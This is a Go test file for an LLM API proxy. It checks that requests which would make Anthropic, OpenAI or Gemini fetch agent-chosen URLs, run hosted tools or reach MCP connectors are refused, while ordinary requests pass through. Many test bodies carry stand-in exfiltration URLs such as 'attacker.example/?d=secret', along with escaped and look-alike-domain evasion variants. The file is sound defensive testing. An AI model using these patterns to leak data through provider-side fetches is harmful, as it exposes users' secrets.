package llm

import (
	"io"
	"net/http"
	"testing"

	"github.com/stretchr/testify/require"
)

// egressCase is one request feature: a body sent to an allowed endpoint,
// and either "" (it is forwarded) or the JSON path of the field the proxy
// must refuse it for.
type egressCase struct {
	name, provider, path, body, field string
}

const (
	ant = "anthropic"
	oai = "openai"
	ggl = "google"
)

// egressCases are the features that make a provider fetch or run
// something for the agent, one per feature, with the forms that must keep
// working beside them.
var egressCases = []egressCase{
	// Anthropic Messages: what keeps working.
	{"anthropic: plain text", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"read https://example.org/ for me"}]}`, ""},
	{"anthropic: text blocks, system, tools, thinking", ant, "/v1/messages", `{"model":"m","max_tokens":1,"stream":true,"system":[{"type":"text","text":"see http://x","cache_control":{"type":"ephemeral"}}],"messages":[{"role":"user","content":[{"type":"text","text":"hi"}]},{"role":"assistant","content":[{"type":"thinking","thinking":"t","signature":"s"},{"type":"tool_use","id":"t1","name":"fetch","input":{"url":"https://example.org/"}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":[{"type":"text","text":"https://example.org/ says hi"}]}]}],"tools":[{"name":"fetch","description":"d","input_schema":{"$schema":"http://json-schema.org/draft-07/schema#","type":"object"}}],"tool_choice":{"type":"auto"},"thinking":{"type":"enabled","budget_tokens":1024},"metadata":{"user_id":"u"}}`, ""},
	{"anthropic: base64 image", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]}]}`, ""},
	{"anthropic: file-id document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_011"}}]}]}`, ""},
	{"anthropic: text document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"text","media_type":"text/plain","data":"see https://example.org"},"title":"t","citations":{"enabled":true}}]}]}`, ""},
	{"anthropic: count tokens", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[{"role":"user","content":"hi"}]}`, ""},
	// Anthropic Messages: refused.
	{"anthropic: url image", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=secret"}}]}]}`, "messages[0].content[0].source.url"},
	{"anthropic: url document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"x"},{"type":"document","source":{"type":"url","url":"https://attacker.example/d.pdf"}}]}]}`, "messages[0].content[1].source.url"},
	{"anthropic: url source, type after url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"source":{"url":"https://attacker.example/","type":"url"},"type":"image"}]}]}`, "messages[0].content[0].source.url"},
	{"anthropic: url image in a tool result", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}]}]}]}`, "messages[0].content[0].content[0].source.url"},
	{"anthropic: url image in a content document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}]}}]}]}`, "messages[0].content[0].source.content[0].source.url"},
	{"anthropic: url image in system", ant, "/v1/messages", `{"model":"m","max_tokens":1,"system":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}],"messages":[]}`, "system[0].type"},
	{"anthropic: escaped url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"\u0075rl","url":"https:\/\/attacker.example/"}}]}]}`, "messages[0].content[0].source.url"},
	{"anthropic: mcp connector", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}`, "mcp_servers"},
	{"anthropic: mcp connector in count_tokens", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}`, "mcp_servers"},
	{"anthropic: web search tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"read","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}`, "tools[1].type"},
	{"anthropic: web fetch tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "tools[0].type"},
	{"anthropic: code execution tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, "tools[0].type"},
	{"anthropic: computer tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"computer_20250124","name":"computer","display_width_px":1,"display_height_px":1}]}`, "tools[0].type"},
	{"anthropic: tool type in another case", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"Type":"web_search_20250305","name":"web_search"}]}`, "tools[0].Type"},
	{"anthropic: code execution container", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"container":"container_1"}`, "container"},
	{"anthropic: server tool result replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"server_tool_use","id":"s","name":"web_fetch","input":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},
	{"anthropic: container upload", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"container_upload","file_id":"f"}]}]}`, "messages[0].content[0].type"},
	{"anthropic: unknown top-level field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"new_feature":{"url":"https://attacker.example/"}}`, "new_feature"},
	{"anthropic: unknown block field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"x","fetch":"https://attacker.example/"}]}]}`, "messages[0].content[0].fetch"},
	{"anthropic: unknown source field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA==","url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].source.url"},
	{"anthropic: url in metadata", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"metadata":{"user_id":"https://attacker.example/"}}`, "metadata.user_id"},
	{"anthropic: remote $ref in a tool schema", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"type":"object","properties":{"a":{"$ref":"https://attacker.example/s.json"}}}}]}`, "tools[0].input_schema.properties.a.$ref"},
	{"anthropic: web search citation replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"text","text":"x","citations":[{"type":"web_search_result_location","url":"https://attacker.example/","title":"t","encrypted_index":"e","cited_text":"c"}]}]}]}`, "messages[0].content[0].citations[0].url"},

	{"anthropic: bash tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"bash_20250124","name":"bash"}]}`, "tools[0].type"},
	{"anthropic: text editor tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"}]}`, "tools[0].type"},
	{"anthropic: server tool in count_tokens", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "tools[0].type"},
	{"anthropic: server tool, type last", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"web_search","type":"web_search_20250305"}]}`, "tools[0].type"},
	{"anthropic: web fetch result replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"web_fetch_tool_result","tool_use_id":"s","content":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},
	{"anthropic: mcp tool use replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"mcp_tool_use","id":"m","name":"n","server_name":"s","input":{}}]}]}`, "messages[0].content[0].type"},
	{"anthropic: search result block", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"search_result","source":"https://attacker.example/","title":"t","content":[]}]}]}`, "messages[0].content[0].type"},
	{"anthropic: unknown top-level field with no url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"betas":["x"]}`, "betas"},
	{"anthropic: meta-schema elsewhere", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"$schema":"https://attacker.example/?d=secret","type":"object"}}]}`, "tools[0].input_schema.$schema"},
	{"anthropic: context editing, structured output, strict tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"context_management":{"edits":[{"type":"clear_tool_uses_20250919","keep":{"type":"tool_uses","value":3}}]},"output_format":{"type":"json_schema","schema":{"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object"}},"output_config":{"effort":"high"},"tools":[{"name":"f","strict":true,"input_schema":{"type":"object"}}]}`, ""},
	{"anthropic: url in a model name", ant, "/v1/messages", `{"model":"https://attacker.example/m","max_tokens":1,"messages":[]}`, "model"},
	{"anthropic: url in a base64 source's data", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"data":"https://attacker.example/","media_type":"image/png","type":"base64"}}]}]}`, "messages[0].content[0].source.data"},
	{"anthropic: escaped url in a token", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"metadata":{"user_id":"https:\/\/attacker.example/"}}`, "metadata.user_id"},
	{"anthropic: remote $ref, escaped key", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"\u0024ref":"https://attacker.example/s.json"}}]}`, "tools[0].input_schema.$ref"},
	{"anthropic: local $ref", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"$defs":{"a":{"type":"string","description":"see https://example.org"}},"properties":{"a":{"$ref":"#/$defs/a"}}}}]}`, ""},
	{"anthropic: custom tool and count tokens with tools", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[{"role":"user","content":"hi"}],"system":"s","tools":[{"type":"custom","name":"f","input_schema":{"type":"object"}}]}`, ""},

	// OpenAI Chat Completions.
	{"openai chat: text and function tools", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"system","content":"see https://example.org"},{"role":"user","content":[{"type":"text","text":"https://example.org"}]},{"role":"assistant","content":null,"tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":"{\"url\":\"https://example.org\"}"}}]},{"role":"tool","tool_call_id":"c","content":"ok"}],"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object"}}}],"stream":true,"stream_options":{"include_usage":true}}`, ""},
	{"openai chat: data image", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo=","detail":"low"}}]}]}`, ""},
	{"openai chat: file id", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}`, ""},
	{"openai chat: http image", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/?d=secret"}}]}]}`, "messages[0].content[0].image_url.url"},
	{"openai chat: file data as a url", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"https://attacker.example/a.pdf","filename":"a.pdf"}}]}]}`, "messages[0].content[0].file.file_data"},
	{"openai chat: web search options", oai, "/v1/chat/completions", `{"model":"m","messages":[],"web_search_options":{}}`, "web_search_options"},
	{"openai chat: built-in tool", oai, "/v1/chat/completions", `{"model":"m","messages":[],"tools":[{"type":"web_search"}]}`, "tools[0].type"},
	{"openai chat: unknown top-level field", oai, "/v1/chat/completions", `{"model":"m","messages":[],"plugins":[{"url":"https://attacker.example/"}]}`, "plugins"},
	{"openai chat: unknown part type", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"video_url","video_url":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},

	{"openai chat: hosted tool choice", oai, "/v1/chat/completions", `{"model":"m","messages":[],"tool_choice":{"type":"web_search_preview"}}`, "tool_choice.type"},
	{"openai chat: url in a user id", oai, "/v1/chat/completions", `{"model":"m","messages":[],"user":"https://attacker.example/"}`, "user"},
	{"openai chat: data image holding a url", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:text/html,https://attacker.example/"}}]}]}`, "messages[0].content[0].image_url.url"},
	{"openai chat: audio and json schema response", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"data":"AAAA","format":"wav"}}]}],"response_format":{"type":"json_schema","json_schema":{"name":"n","schema":{"type":"object","description":"https://example.org"},"strict":true}},"max_completion_tokens":5}`, ""},

	// OpenAI Responses.
	{"openai responses: text, function tools, reasoning", oai, "/v1/responses", `{"model":"m","instructions":"see https://example.org","input":[{"role":"user","content":[{"type":"input_text","text":"https://example.org"}]},{"type":"function_call","call_id":"c","name":"f","arguments":"{}"},{"type":"function_call_output","call_id":"c","output":"https://example.org says hi"},{"type":"reasoning","id":"r","summary":[{"type":"summary_text","text":"s"}],"encrypted_content":"e"}],"tools":[{"type":"function","name":"f","parameters":{"type":"object"},"strict":false}],"tool_choice":"auto","parallel_tool_calls":true,"reasoning":{"effort":"low","summary":"auto"},"store":false,"stream":true,"include":["reasoning.encrypted_content"],"prompt_cache_key":"k","text":{"verbosity":"low"}}`, ""},
	{"openai responses: string input", oai, "/v1/responses", `{"model":"m","input":"fetch https://example.org"}`, ""},
	{"openai responses: data and file-id image", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AA==","detail":"auto"},{"type":"input_image","file_id":"file-1"},{"type":"input_file","file_id":"file-2"}]}]}`, ""},
	{"openai responses: http input_image", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://attacker.example/?d=secret"}]}]}`, "input[0].content[0].image_url"},
	{"openai responses: input_file by url", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://attacker.example/a.pdf"}]}]}`, "input[0].content[0].file_url"},
	{"openai responses: url image in a function output", oai, "/v1/responses", `{"model":"m","input":[{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"https://attacker.example/"}]}]}`, "input[0].output[0].image_url"},
	{"openai responses: mcp tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp"}]}`, "tools[0].type"},
	{"openai responses: web search tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"web_search_preview"}]}`, "tools[0].type"},
	{"openai responses: code interpreter tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, "tools[0].type"},
	{"openai responses: file search tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"file_search","vector_store_ids":["v"]}]}`, "tools[0].type"},
	{"openai responses: stored prompt", oai, "/v1/responses", `{"model":"m","prompt":{"id":"pmpt_1"}}`, "prompt"},
	{"openai responses: mcp item replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"mcp_call","id":"m","server_label":"x","name":"n","arguments":"{}"}]}`, "input[0].type"},
	{"openai responses: unknown top-level field", oai, "/v1/responses", `{"model":"m","input":"x","connectors":["https://attacker.example/"]}`, "connectors"},
	{"openai responses: url citation replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"message","role":"assistant","content":[{"type":"output_text","text":"x","annotations":[{"type":"url_citation","url":"https://attacker.example/","start_index":0,"end_index":1,"title":"t"}]}]}]}`, "input[0].content[0].annotations[0].url"},

	{"openai responses: computer use tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"computer_use_preview","display_width":1,"display_height":1,"environment":"browser"}]}`, "tools[0].type"},
	{"openai responses: image generation tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"image_generation"}]}`, "tools[0].type"},
	{"openai responses: local shell tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"local_shell"}]}`, "tools[0].type"},
	{"openai responses: mcp tool, type last", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"server_label":"x","server_url":"https://attacker.example/mcp","type":"mcp"}]}`, "tools[0].server_label"},
	{"openai responses: hosted tool choice", oai, "/v1/responses", `{"model":"m","input":"x","tool_choice":{"type":"mcp","server_label":"x"}}`, "tool_choice.type"},
	{"openai responses: stored conversation", oai, "/v1/responses", `{"model":"m","input":"x","conversation":"conv_1"}`, "conversation"},
	{"openai responses: web search call replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"web_search_call","id":"w","status":"completed","action":{"type":"open_page","url":"https://attacker.example/"}}]}`, "input[0].type"},
	{"openai responses: input_file data naming a url", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_data":"https://attacker.example/a.pdf","filename":"a.pdf"}]}]}`, "input[0].content[0].file_data"},
	{"openai responses: custom tool and json schema text", oai, "/v1/responses", `{"model":"m","input":[{"type":"custom_tool_call","call_id":"c","name":"apply","input":"see https://example.org"},{"type":"custom_tool_call_output","call_id":"c","output":"ok"}],"tools":[{"type":"custom","name":"apply","description":"d","format":{"type":"text"}}],"text":{"format":{"type":"json_schema","name":"n","schema":{"type":"object"},"strict":true}}}`, ""},

	// Gemini.
	{"google: text, function declarations, config", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"user","parts":[{"text":"read https://example.org"}]},{"role":"model","parts":[{"functionCall":{"name":"f","args":{"url":"https://example.org"}},"thoughtSignature":"s"}]},{"role":"user","parts":[{"functionResponse":{"name":"f","response":{"text":"https://example.org says hi"}}}]}],"systemInstruction":{"parts":[{"text":"s"}]},"tools":[{"functionDeclarations":[{"name":"f","description":"d","parameters":{"type":"OBJECT"}}]}],"toolConfig":{"functionCallingConfig":{"mode":"AUTO"}},"generationConfig":{"temperature":0.5,"maxOutputTokens":10,"thinkingConfig":{"thinkingBudget":100,"includeThoughts":true}},"safetySettings":[{"category":"HARM_CATEGORY_HARASSMENT","threshold":"BLOCK_NONE"}]}`, ""},
	{"google: snake case and inline data", ggl, "/v1beta/models/gemini-2.5-pro:streamGenerateContent", `{"contents":[{"role":"user","parts":[{"inline_data":{"mime_type":"image/png","data":"AA=="}}]}],"system_instruction":{"parts":[{"text":"s"}]},"generation_config":{"max_output_tokens":5}}`, ""},
	{"google: Files API file", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"application/pdf","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/abc-123"}}]}]}`, ""},
	{"google: count tokens", ggl, "/v1beta/models/gemini-2.5-pro:countTokens", `{"contents":[{"parts":[{"text":"hi"}]}]}`, ""},
	{"google: fileData by url", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"text/html","fileUri":"https://attacker.example/?d=secret"}}]}]}`, "contents[0].parts[0].fileData.fileUri"},
	{"google: file_data by url", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"file_data":{"file_uri":"gs://attacker/x"}}]}]}`, "contents[0].parts[0].file_data.file_uri"},
	{"google: Files API look-alike", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://generativelanguage.googleapis.com.attacker.example/v1beta/files/a"}}]}]}`, "contents[0].parts[0].fileData.fileUri"},
	{"google: url context tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"urlContext":{}}]}`, "tools[0].urlContext"},
	{"google: search tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"functionDeclarations":[{"name":"f"}],"googleSearch":{}}]}`, "tools[0].googleSearch"},
	{"google: code execution tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"code_execution":{}}]}`, "tools[0].code_execution"},
	{"google: url in system instruction file", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"systemInstruction":{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}}`, "systemInstruction.parts[0].fileData.fileUri"},
	{"google: unknown generationConfig field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"generationConfig":{"groundingUrl":"https://attacker.example/"}}`, "generationConfig.groundingUrl"},
	{"google: retrieval config", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"toolConfig":{"retrievalConfig":{"languageCode":"en"}}}`, "toolConfig.retrievalConfig"},
	{"google: cached content", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"cachedContent":"cachedContents/x"}`, "cachedContent"},
	{"google: unknown part field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"executableCode":{"code":"x"}}]}]}`, "contents[0].parts[0].executableCode"},
	{"google: fileData in count tokens", ggl, "/v1beta/models/gemini-2.5-pro:countTokens", `{"generateContentRequest":{"model":"models/m","contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}]}}`, "generateContentRequest.contents[0].parts[0].fileData.fileUri"},
	{"google: computer use tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"computerUse":{"environment":"ENVIRONMENT_BROWSER"}}]}`, "tools[0].computerUse"},
	{"google: search retrieval tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"google_search_retrieval":{}}]}`, "tools[0].google_search_retrieval"},
	{"google: file search tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"fileSearch":{"fileSearchStoreNames":["x"]}}]}`, "tools[0].fileSearch"},
	{"google: unknown top-level field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"labels":{"a":"b"}}`, "labels"},
	{"google: Files API path escape", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://generativelanguage.googleapis.com/v1beta/files/../../x"}}]}]}`, "contents[0].parts[0].fileData.fileUri"},
	{"google: both spellings of one field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://generativelanguage.googleapis.com/v1beta/files/a"},"file_data":{"file_uri":"https://attacker.example/"}}]}]}`, "contents[0].parts[0].file_data"},
	{"google: url in a thought signature", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"text":"x","thoughtSignature":"https://attacker.example/"}]}]}`, "contents[0].parts[0].thoughtSignature"},
	{"google: code execution result replayed", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"model","parts":[{"codeExecutionResult":{"outcome":"OUTCOME_OK","output":"x"}}]}]}`, "contents[0].parts[0].codeExecutionResult"},
	{"google: json schema parameters", ggl, "/v1beta/models/gemini-2.5-pro:countTokens", `{"generateContentRequest":{"model":"models/m","contents":[{"parts":[{"text":"hi"}]}],"tools":[{"function_declarations":[{"name":"f","parametersJsonSchema":{"type":"object","properties":{"u":{"type":"string","format":"uri"}}}}]}]}}`, ""},
}

func egressHeaders(f *fixture, provider string) map[string]string {
	h := map[string]string{"Content-Type": "application/json"}
	switch provider {
	case ant:
		h["x-api-key"] = f.sess.FakeKey(ant)
	case oai:
		h["Authorization"] = "Bearer " + f.sess.FakeKey(oai)
	case ggl:
		h["x-goog-api-key"] = f.sess.FakeKey(ggl)
	}
	return h
}

// Every feature that makes the provider fetch an agent-chosen URL, run a
// provider-side tool or reach a connector is refused with 400 before
// anything is forwarded, and the refusal names the field; the forms that
// carry their content inline or by file id reach the provider unchanged.
func TestProviderFetchRefused(t *testing.T) {
	for _, tc := range egressCases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, nil)
			var seen []byte
			f.up.setHandler(func(w http.ResponseWriter, r *http.Request) {
				seen, _ = io.ReadAll(r.Body)
				io.WriteString(w, "{}")
			})
			n := len(f.audit())
			status, body, refused := do(t, f.direct(), "POST", f.base("/"+tc.provider+tc.path), egressHeaders(f, tc.provider), tc.body)
			rec := f.auditN(t, n+1)[n]
			if requireEgressOutcome(t, f, status, body, refused, rec, &seen, tc.body, tc.field) {
				require.Contains(t, rec.Refused, tc.field)
			}
		})
	}
}

// requireEgressOutcome checks what became of a request whose body was sent:
// with field "", it was passed upstream unchanged (seen is what upstream
// read); otherwise it was refused with 400 naming field, in the answer and
// in the audit record, and never reached upstream. It reports whether the
// request was refused.
func requireEgressOutcome(t *testing.T, f *fixture, status int, body string, refused bool, rec Record, seen *[]byte, sent, field string) bool {
	t.Helper()
	if field == "" {
		require.Equal(t, 200, status, body)
		require.False(t, refused)
		<-f.up.hits
		require.Equal(t, sent, string(*seen))
		return false
	}
	require.Equal(t, 400, status, body)
	require.True(t, refused)
	require.Contains(t, body, field)
	require.Equal(t, field, rec.Field)
	f.up.noHits(t)
	return true
}
